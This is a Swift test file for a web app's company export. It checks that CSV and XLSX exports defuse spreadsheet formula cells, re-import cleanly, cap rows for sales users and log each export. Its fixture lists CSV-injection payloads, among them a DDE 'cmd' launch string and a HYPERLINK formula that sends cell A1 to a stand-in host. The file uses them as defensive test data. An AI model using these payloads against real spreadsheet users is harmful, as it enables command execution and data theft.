import Foundation
import Growth
import HTTPTypes
import HummingbirdTesting
import NIOCore
import Spreadsheet
import Store
import Testing

@testable import Web

@Suite struct CompanyExportTests {
    /// Cells that a spreadsheet program would run (quality W-20).
    static let formulas: [String] = {
        let heads = ["=", "+", "-", "@", "\t=", "\r=", "=\"", "＝", "'=", " ="]
        let tails = [
            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.sa?\"&A1,\"go\")", "SUM(A1:A9)",
            "WEBSERVICE(\"http://x\")", "DDE(\"a\";\"b\")",
        ]
        return heads.flatMap { head in tails.map { head + $0 } }
    }()

    @Test func `no cell of an export is a formula, and .csv reads back as it was`() async throws {
        #expect(Self.formulas.count == 60)
        try await Site.with { site in
            let companies = Self.formulas.map { formula in
                CompanyRoutesTests.company(formula) {
                    $0.city = formula
                    $0.customFields = ["ملاحظة": .string(formula)]
                }
            }
            try await site.platform.store.insert(companies)
            let manager = try await site.browser(.manager)
            for format in ["xlsx", "csv"] {
                let answer = try await manager.get("/companies/export?format=\(format)")
                #expect(
                    answer.status == .ok
                        && answer.headers[.contentDisposition] == "attachment; filename=\"companies.\(format)\"")
                let file = FileManager.default.temporaryDirectory.appendingPathComponent("\(ObjectID()).\(format)")
                defer { try? FileManager.default.removeItem(at: file) }
                try Data(answer.body.readableBytesView).write(to: file)
                let rows = try Self.rows(file)
                #expect(rows.count == 61)
                for row in rows.dropFirst() where format == "csv" {
                    let cell = row.first ?? ""
                    #expect(!["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) }, "\(cell)")
                }
                let first = Set(
                    rows.dropFirst().compactMap(\.first).map { format == "csv" ? CSVWriter.unguarded($0) : $0 })
                #expect(
                    first.isSuperset(
                        of: Self.formulas.filter { !$0.contains("\r") && !$0.contains("\t") && $0.first != " " }))
            }
            let left = FileManager.default.enumerator(
                atPath: site.platform.folder.appendingPathComponent("exports").path)?.allObjects
            #expect(left?.count == 0)
            #expect(try await site.platform.store.count(AuditLog.self, where: .equals("action", "export")) == 2)
        }
    }

    @Test(arguments: ["ar", "en"]) func `an exported list can be imported, each column known`(_ language: String)
        async throws
    {
        try await Site.with { site in
            var company = CompanyRoutesTests.company("شركة أفق") {
                for field in CompanyField.allCases where !["leadScore", "tags"].contains(field.rawValue) {
                    $0[field] = $0[field] ?? "x"
                }
            }
            company.linkedinUrl = "https://www.linkedin.com/company/ufuq"
            var person = Person()
            for field in PersonField.allCases where field != .isDecisionMaker { person[field] = "x" }
            (person.fullName, person.companyNameAr) = ("نورة", "شركة أفق")
            try await site.platform.store.insert(company)
            try await site.platform.store.insert(person)
            let manager = try await site.browser(.manager)
            _ = try await manager.post("/language", [("language", language)])
            for (list, other) in [("companies", ColumnTarget.company(.nameAr)), ("people", .person(.fullName))] {
                let csv = try await manager.get("/\(list)/export?format=csv")
                let path = try #require(
                    try await manager.upload("/imports", Data(csv.body.readableBytesView)).headers[.location])
                let file = try #require(
                    site.platform.imports.uploads.file(String(path.split(separator: "/").last ?? "")))
                let sheet = try #require(try await site.platform.imports.detect(file).file.sheets.first)
                let unknown = sheet.columns.filter { $0.target == .custom || $0.target == .ignored }.map(\.header)
                #expect(unknown.isEmpty)
                #expect(sheet.columns.contains { $0.target == other })
                let links = sheet.columns.map(\.target).filter {
                    $0 == .company(.linkedinUrl) || $0 == .person(.linkedinUrl)
                }
                #expect(links == [list == "companies" ? .company(.linkedinUrl) : .person(.linkedinUrl)])
            }
        }
    }

    @Test func `sales take a thousand rows along, managers all, and each export is in the audit log`() async throws {
        try await Site.with { site in
            try await site.platform.store.insert((0..<1_003).map { CompanyRoutesTests.company("شركة \($0)") })
            for (role, wanted) in [(User.Role.sales, 1_001), (.manager, 1_004), (.admin, 1_004)] {
                let answer = try await site.browser(role).get("/api/companies/export?format=csv")
                #expect(answer.text.split(separator: "\r\n").count == wanted)
            }
            let entries = try await site.platform.store.find(Query<AuditLog>(.equals("action", "export")))
            #expect(Set(entries.compactMap { $0.metadata?.object?["rows"]?.int }) == [1_000, 1_003])
        }
    }

    private static func rows(_ file: URL) throws -> [[String]] {
        let workbook = try Workbook(path: file.path)
        let reader = try workbook.rows(of: 0)
        var rows: [[String]] = []
        while try reader.next() { rows.append(reader.row.cells.map { String($0.text) }) }
        return rows
    }
}
